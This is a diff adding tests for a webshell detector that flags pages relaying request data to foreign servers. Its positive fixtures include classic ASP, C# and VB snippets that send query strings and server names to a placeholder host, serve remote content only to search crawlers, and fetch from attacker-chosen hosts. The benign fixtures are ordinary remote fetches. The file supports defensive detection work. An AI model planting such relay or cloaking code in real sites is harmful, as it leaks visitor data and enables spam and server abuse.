@@ -1,0 +1,92 @@
+import detector from '../../../src/detectors/webshell/relayed-content.js';
+import { testDetector } from '../../helpers/detector-tester.js';
+import { basicPage, classicPage, csharpPage } from './inline-page.js';
+
+const FETCH = [
+  'Function Fetch(address)',
+  'Set client = CreateObject("WinHttp.WinHttpRequest.5.1")',
+  'client.Open "GET", address, False',
+  'client.Send',
+  'Fetch = client.responseText',
+  'End Function',
+];
+
+testDetector(detector, {
+  hits: [
+    {
+      name: 'who asks for what is told to a foreign server',
+      input: classicPage(
+        'page = "http://a.invalid/in?h=" & Request.ServerVariables("SERVER_NAME") & "&q=" & Request.ServerVariables("QUERY_STRING")',
+        'Response.Write Fetch(page)',
+        ...FETCH,
+      ),
+      detections: [{ message: 'relayed', at: { label: 'sink', line: 3 }, severity: 'medium' }],
+    },
+    {
+      name: 'the whole query goes to a foreign server, in pieces',
+      input: classicPage(
+        'host = "ht" & "tp://a.invalid"',
+        'body = Fetch(host & Request.QueryString)',
+        '%><%= Replace(body, host, "") %><%',
+        ...FETCH,
+      ),
+      detections: [{ message: 'relayed', at: { label: 'sink' } }],
+    },
+    {
+      name: 'search engines see another page',
+      input: classicPage(
+        'If InStr(LCase(Request.ServerVariables("HTTP_USER_AGENT")), "googlebot") > 0 Then',
+        'Response.Write Fetch("http://a.invalid/list.txt")',
+        'End If',
+        ...FETCH,
+      ),
+      detections: [{ message: 'cloaked', at: { label: 'sink', line: 3 } }],
+    },
+    {
+      name: 'search engines see another page, in C#',
+      input: csharpPage(
+        'if (Request.UserAgent.Contains("Baiduspider"))',
+        '  Response.Write(new System.Net.WebClient().DownloadString("https://a.invalid/x?u=" + Request.RawUrl));',
+      ),
+      detections: [{ message: 'relayed', at: { label: 'sink' }, severity: 'high' }],
+    },
+    {
+      name: 'the host stands in one field, the path in another',
+      input: csharpPage(
+        'string host = Request.Form["h"]; string address = host + Request.Form["p"];',
+        'var asked = System.Net.WebRequest.Create(address);',
+        'asked.GetResponse().GetResponseStream().CopyTo(Response.OutputStream);',
+      ),
+      detections: [{ message: 'chosen', at: { label: 'source', line: 2 } }],
+    },
+    {
+      name: 'the host stands in a field, in VB',
+      input: basicPage(
+        'Dim asked = New System.Net.WebClient()',
+        'Response.BinaryWrite(asked.DownloadData("http://" & Request.Form("h") & "/"))',
+      ),
+      detections: [{ message: 'chosen', at: { label: 'sink', line: 4 } }],
+    },
+  ],
+  misses: [
+    {
+      name: 'one field of the request looked up at a service',
+      input: classicPage('Response.Write Fetch("https://api.invalid/rates?id=" & Request("id"))', ...FETCH),
+      looksAlike: true,
+    },
+    {
+      name: 'news of another site',
+      input: classicPage('Response.Write Fetch("https://api.invalid/rss")', ...FETCH),
+      looksAlike: true,
+    },
+    {
+      name: 'the address of the page is shown, the answer is not',
+      input: classicPage(
+        'Fetch "https://api.invalid/count?" & Request.QueryString',
+        'Response.Write Request.QueryString',
+        ...FETCH,
+      ),
+      looksAlike: true,
+    },
+  ],
+});
